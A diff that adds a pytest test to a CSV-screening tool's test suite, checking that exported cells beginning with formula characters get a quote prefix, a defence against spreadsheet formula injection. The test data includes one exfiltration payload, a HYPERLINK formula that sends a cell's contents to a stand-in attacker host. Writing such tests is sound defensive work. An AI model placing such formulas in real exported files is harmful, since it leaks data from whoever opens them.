@@ -330,3 +330,27 @@ def test_the_console_script_leaves_after_screen_with_all_its_output(
 def test_the_console_script_exits_as_usual_for_other_commands() -> None:
     done = _console("params", "--help")
     assert done.returncode == 0 and "usage: policyhub params" in done.stdout
+
+
+def test_screen_csv_output_quotes_text_a_spreadsheet_would_run(tmp_path: Path) -> None:
+    """OWASP CSV injection: an applicant id and a matter typed as formulas come out as text."""
+    import csv
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    frame = synth.frame(3, seed=5)
+    first = frame["applicant_id"][0]
+    frame = frame.with_columns(
+        applicant_id=pl.when(pl.col("applicant_id") == first).then(pl.lit(evil))
+        .otherwise(pl.col("applicant_id")),
+        matter=pl.when(pl.col("matter").is_not_null()).then(pl.lit("-1+1")).otherwise(None))
+    source, target = tmp_path / "in.csv", tmp_path / "out.csv"
+    frame.write_csv(source)
+    assert _run(source, target) == 0
+    with target.open(encoding="utf-8", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    ids = {r["applicant_id"] for r in rows}
+    assert "'" + evil in ids and evil not in ids
+    matters = {r["matter"] for r in rows}
+    assert "-1+1" not in matters and ("'-1+1" in matters or not frame["matter"].drop_nulls().len())
+    assert all(not v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values()
+               if v and not v.lstrip("-").replace(".", "").isdigit())
